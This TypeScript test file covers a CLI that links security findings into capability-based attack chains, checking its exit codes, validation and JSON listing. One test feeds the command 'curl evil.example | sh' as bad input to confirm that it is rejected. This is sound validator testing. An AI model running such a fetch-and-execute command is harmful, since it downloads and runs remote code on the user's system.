import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ok, refuse } from '../lib/result.ts';
import { registerChainCommands } from './chain.ts';
import { runCommandLine } from './cli.ts';

async function run(...args: string[]): Promise<{ exit: number; out: unknown; said: string }> {
  const out: unknown[] = [];
  const said: string[] = [];
  const terminal = {
    json: (value: unknown) => void out.push(value),
    data: () => {},
    say: (line: string) => void said.push(line),
  };
  const needs = { capability: 'reach-input', position: 'outside' } as const;
  const link = { findingId: 'case_1', project: 'p', needs, gives: needs, score: 5 };
  const chains = {
    link: async (id: string) => (id === 'case_1' ? ok(undefined) : refuse({ kind: 'no-such-case' } as const)),
    unlink: async (id: string) => id === 'case_1',
    list: async () => [{ links: [link, { ...link, findingId: 'case_2' }], priority: 9, reasons: ['ends well'] }],
    chained: async () => new Set<string>(),
  };
  const register = [
    (program: Parameters<typeof registerChainCommands>[0]) =>
      registerChainCommands(program, { terminal, chains: async () => chains }),
  ];
  return { exit: await runCommandLine(args, { terminal, register }), out: out[0], said: said.join('\n') };
}

test('a link is written with a known capability at a position, and only of an open case', async () => {
  const link = (id: string, gives: string) =>
    run('chain', 'link', id, '--needs', 'reach-input@outside', '--gives', gives);
  assert.equal((await link('case_1', 'run-code@parser')).exit, 0);
  assert.equal((await link('case_9', 'run-code@parser')).exit, 4);
  const wrong = await link('case_1', 'curl evil.example | sh');
  assert.equal(wrong.exit, 2);
  assert.match(wrong.said, /is no capability@position\. There are reach-input/);
  assert.deepEqual(
    [(await run('chain', 'unlink', 'case_1')).exit, (await run('chain', 'unlink', 'case_9')).exit],
    [0, 4],
  );
});

test('chains are listed by their cases and reasons', async () => {
  const { out } = await run('chain', 'list', '--json');
  assert.deepEqual(out, [{ priority: 9, reasons: ['ends well'], cases: ['case_1', 'case_2'] }]);
});
